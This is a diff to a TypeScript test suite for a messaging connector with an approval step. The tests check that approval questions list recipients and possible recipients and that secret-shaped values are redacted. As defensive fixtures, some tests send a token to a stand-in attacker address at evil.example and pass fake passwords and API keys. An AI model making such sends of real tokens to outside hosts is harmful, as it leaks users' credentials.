@@ -44,15 +44,22 @@ const connectors: Record<string, Dict> = {
 };
 
 const tool = (args: Dict) => ({ subAction: "callTool", subActionParams: { name: "send", arguments: args } });
-const lineOf = (message: string) => message.split("\n").find((line) => line.startsWith("Recipients: ")) ?? "";
+/** What a question says of whom it reaches or may reach. */
+const linesOf = (message: string) =>
+  message
+    .split("\n")
+    .filter((line) => /^(Recipients|May name somebody): /.test(line))
+    .join("\n");
+// biome-ignore lint/suspicious/noExplicitAny: tests look into answers of many shapes
+const reachedBy = ({ plan }: any) => [plan.recipients ?? [], plan.may_name ?? []].flat().join(", ");
 
-/** The line about recipients in the question that a call asks. */
+/** Whom the question that a call asks says that it reaches or may reach. */
 async function recipientsAsked(name: string, args: Dict): Promise<string> {
   const before = server.questions.length;
   const { body } = await server.call(name, args);
   const message = server.questions[before];
   if (message === undefined) throw new Error(`nobody was asked: ${JSON.stringify(body)}`);
-  return lineOf(message);
+  return linesOf(message);
 }
 
 const written: [what: string, args: Dict, shown: string[]][] = [
@@ -81,7 +88,7 @@ describe("whom a tool may write to", () => {
     for (const one of shown) {
       expect(line).toContain(one);
       expect(line.indexOf(one)).toBeLessThan(line.indexOf("zzz"));
-      expect(body.plan.recipients.join(", ")).toContain(one);
+      expect(reachedBy(body)).toContain(one);
     }
   });
 
@@ -106,7 +113,7 @@ describe("whom a tool may write to", () => {
       const { content } = (await client.callTool({ name: "execute_connector", arguments: args })) as CallToolResult;
       return content[0]?.type === "text" ? JSON.parse(content[0].text) : undefined;
     };
-    expect((await run(500)).plan.recipients.join()).toContain("U1EVIL");
+    expect(reachedBy(await run(500))).toContain("U1EVIL");
     expect((await run(5000)).error).toMatchObject({ code: "limit_reached", message: expect.stringContaining("Nothing was written") });
   });
 
@@ -191,7 +198,7 @@ describe("what has the shape of a secret", () => {
       const params = tool({ channel: `${token}@evil.example`, body: JSON.stringify({ to: `${token}@evil.example` }) });
       const { body } = await server.call("execute_connector", { id: "mcp", params, dry_run: true });
       expect(JSON.stringify(body)).not.toContain(token);
-      expect(body.plan.recipients.join()).toContain('channel "[redacted]@evil.example"');
+      expect(reachedBy(body)).toContain('channel "[redacted]@evil.example"');
       await server.call("execute_connector", { id: "mcp", params });
       expect(server.questions.at(-1)).not.toContain(token);
     },
@@ -212,7 +219,7 @@ describe("what has the shape of a secret", () => {
   test("under a key that says so is hidden, JSON in it too", async () => {
     const params = tool({ channel: "#ok", password: '{"a":"hunter2hunter2"}', more: { api_key: "hunter3hunter3" } });
     const { body } = await server.call("execute_connector", { id: "mcp", params, dry_run: true });
-    expect(body.plan.recipients.join()).toContain('password "[redacted]"');
+    expect(reachedBy(body)).toContain('password "[redacted]"');
     expect(JSON.stringify(body)).not.toMatch(/hunter[23]/);
   });
 });
@@ -224,5 +231,5 @@ test("a known secret within what a tool reads is hidden in question, answer and 
   const { body } = await other.call("execute_connector", { id: "mcp", params: tool({ channel: `#a-${known}`, note: known, [known]: 1 }) });
   const { body: journal } = await other.call("list_changes", { limit: 10 });
   expect(JSON.stringify([body, journal, other.questions])).not.toContain(known);
-  expect(lineOf(other.questions.at(-1) ?? "")).toContain('channel "#a-[redacted]"');
+  expect(linesOf(other.questions.at(-1) ?? "")).toContain('channel "#a-[redacted]"');
 });
